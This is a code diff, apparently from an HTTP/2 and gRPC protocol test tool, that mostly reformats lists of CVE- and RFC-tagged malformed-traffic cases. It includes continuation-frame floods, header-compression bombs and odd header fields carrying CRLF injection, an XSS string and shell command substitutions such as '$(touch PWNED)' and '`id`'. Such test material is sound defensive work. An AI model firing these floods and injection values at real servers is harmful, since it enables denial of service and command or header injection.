@@ -20,7 +20,7 @@ import {
   tableSize,
 } from "../bytes.js";
 import type { Attack, Sizes } from "../script.js";
-import { CLIENT_SCRIPT, concat, either, oneSided, OPEN_CALL, SERVER_SCRIPT } from "./frames.js";
+import { CLIENT_SCRIPT, concat, either, OPEN_CALL, oneSided, SERVER_SCRIPT } from "./frames.js";
 
 const MIB = 1024 * 1024;
 const FLOOD: Sizes = { quick: MIB / 4, full: 16 * MIB };
@@ -64,7 +64,11 @@ const CONTINUATIONS: readonly Attack[] = [
     ),
   ),
   oneSided("client", "blocks with other frames inside", "RFC 9113 §6.10", (bytes) =>
-    streams(bytesOf(begins(1, REQUEST_BLOCK), encodeFrame(FRAME.data, 0, 1, same(0, 5)), goesOn(1, NOTHING, true)), bytes, 3),
+    streams(
+      bytesOf(begins(1, REQUEST_BLOCK), encodeFrame(FRAME.data, 0, 1, same(0, 5)), goesOn(1, NOTHING, true)),
+      bytes,
+      3,
+    ),
   ),
   {
     ...oneSided("client", "many connections with a block of 1 MiB open", "CVE-2024-27983", (bytes) =>
@@ -184,7 +188,9 @@ const BOMBS: readonly Attack[] = [
     ),
   ),
   oneSided("client", "table size updates by the thousand", "RFC 7541 §4.2", (bytes) =>
-    made(bytes, (i) => block(3 + 2 * i, bytesOf(...new Array<Uint8Array>(2000).fill(same(0x20, 1)), REQUEST_BLOCK), true)),
+    made(bytes, (i) =>
+      block(3 + 2 * i, bytesOf(...new Array<Uint8Array>(2000).fill(same(0x20, 1)), REQUEST_BLOCK), true),
+    ),
   ),
   oneSided("client", "fields without name and value", "CVE-2019-9516", (bytes) =>
     streams(block(1, bytesOf(REQUEST_BLOCK, same(0, 3 * 5000)), true), bytes, 3),
@@ -194,10 +200,14 @@ const BOMBS: readonly Attack[] = [
     return made(bytes, (i) => block(3 + 2 * i, bytesOf(REQUEST_BLOCK, counter(i), fields), true));
   }),
   oneSided("client", "a path of 900 KiB", "RFC 9113 §10.5.1", (bytes) =>
-    made(bytes, (i) => block(3 + 2 * i, encodeFields([[":path", `/${"a".repeat(900_000)}${i}`]], { huffman: false }), true)),
+    made(bytes, (i) =>
+      block(3 + 2 * i, encodeFields([[":path", `/${"a".repeat(900_000)}${i}`]], { huffman: false }), true),
+    ),
   ),
   oneSided("client", "a value of 900 KiB, not ASCII", "RFC 9113 §10.5.1", (bytes) =>
-    made(bytes, (i) => block(3 + 2 * i, encodeFields([["x", `${"\xe9".repeat(900_000)}${i}`]], { huffman: false }), true)),
+    made(bytes, (i) =>
+      block(3 + 2 * i, encodeFields([["x", `${"\xe9".repeat(900_000)}${i}`]], { huffman: false }), true),
+    ),
   ),
   oneSided("client", "20,000 different methods", "RFC 9113 §8.3.1", (bytes) =>
     // 0x04: a literal without indexing whose name is :path; 0x4a: 74 octets.
@@ -269,13 +279,23 @@ const ODD_FIELDS: readonly (readonly Field[])[] = [
   [...REQUEST, ["crlf", "1\r\nhost: evil\r\n\r\nGET / HTTP/1.1"], ["nul", "a\x00b"], ["\r\n", "\r\n"]],
   [...REQUEST, ...REQUEST, [":path", "/second"], [":method", "GET"], [":evil", "1"], [":status", "200"]],
   [["late", "1"], ...REQUEST],
-  [[":method", "CONNECT"], [":authority", "127.0.0.1:1"], [":protocol", "websocket"]],
+  [
+    [":method", "CONNECT"],
+    [":authority", "127.0.0.1:1"],
+    [":protocol", "websocket"],
+  ],
   [...REQUEST, ["transfer-encoding", "chunked"], ["connection", "close"], ["content-length", "-1"], ["te", "gzip"]],
   [...REQUEST, ["a-bin", "%%%%"], ["b-bin", "=".repeat(100)], ["c-bin", "A"], ["d-bin", ",,,,"], ["e-bin", "\xff\xfe"]],
   [...REQUEST, ["grpc-timeout", "999999999999S"], ["grpc-timeout", "-1m"], ["grpc-timeout", "5"], ["grpc-timeout", ""]],
   [...REQUEST, ["grpc-encoding", "x".repeat(5000)], ["grpc-encoding", "__proto__"], ["grpc-accept-encoding", ESC]],
   [...REQUEST, ["__proto__", "1"], ["constructor", "1"], ["prototype", "1"], ["toString", "1"], ["hasOwnProperty", ""]],
-  [[":method", ESC], [":scheme", ESC], [":path", `/${ESC}${BIDI}`], [":authority", ESC], ["content-type", "application/grpc"]],
+  [
+    [":method", ESC],
+    [":scheme", ESC],
+    [":path", `/${ESC}${BIDI}`],
+    [":authority", ESC],
+    ["content-type", "application/grpc"],
+  ],
   [...REQUEST.slice(0, 2), [":path", "/__proto__/constructor"], ["content-type", "application/grpc"]],
   [...REQUEST.slice(0, 2), [":path", "{bold}{/}<img src=x onerror=alert(1)>$(touch PWNED)`id`'; --"]],
   [...REQUEST, ["escape", ESC], [ESC, BIDI], ["x-\u202e", "1"]],
@@ -289,17 +309,31 @@ const ODD_ANSWERS: readonly (readonly Field[])[] = [
   [...RESPONSE, ["grpc-status", "13"], ["grpc-message", "%1b%5b2J%c2%9b2J%e2%80%ae%e2%80%a8%0d%0a%07"]],
   [...RESPONSE, ["grpc-status", "2"], ["grpc-message", "m".repeat(100_000)]],
   [...RESPONSE, ["grpc-status", ESC], ["grpc-message", "x"]],
-  [[":status", ESC], ["content-type", ESC]],
-  [[":status", "000"], ["grpc-status", ""]],
-  [[":status", "200"], [":status", "500"], ["grpc-status", "0"], ["grpc-status", "14"]],
+  [
+    [":status", ESC],
+    ["content-type", ESC],
+  ],
+  [
+    [":status", "000"],
+    ["grpc-status", ""],
+  ],
+  [
+    [":status", "200"],
+    [":status", "500"],
+    ["grpc-status", "0"],
+    ["grpc-status", "14"],
+  ],
   [[":status", "99999999999999999999"]],
   [["grpc-status-details-bin", "!!!!"], ...RESPONSE, ["grpc-status", "5"]],
   [],
 ];
 
 const ODD: readonly Attack[] = [
-  oneSided("client", "odd names, values and pseudo-header fields", "GHSA-847f-9342-265h, CVE-2023-32732, CVE-2021-25743", (bytes) =>
-    made(bytes, (i) => headers(3 + 2 * i, ODD_FIELDS[i % ODD_FIELDS.length]!, true)),
+  oneSided(
+    "client",
+    "odd names, values and pseudo-header fields",
+    "GHSA-847f-9342-265h, CVE-2023-32732, CVE-2021-25743",
+    (bytes) => made(bytes, (i) => headers(3 + 2 * i, ODD_FIELDS[i % ODD_FIELDS.length]!, true)),
   ),
   {
     name: "odd statuses, messages and answers",
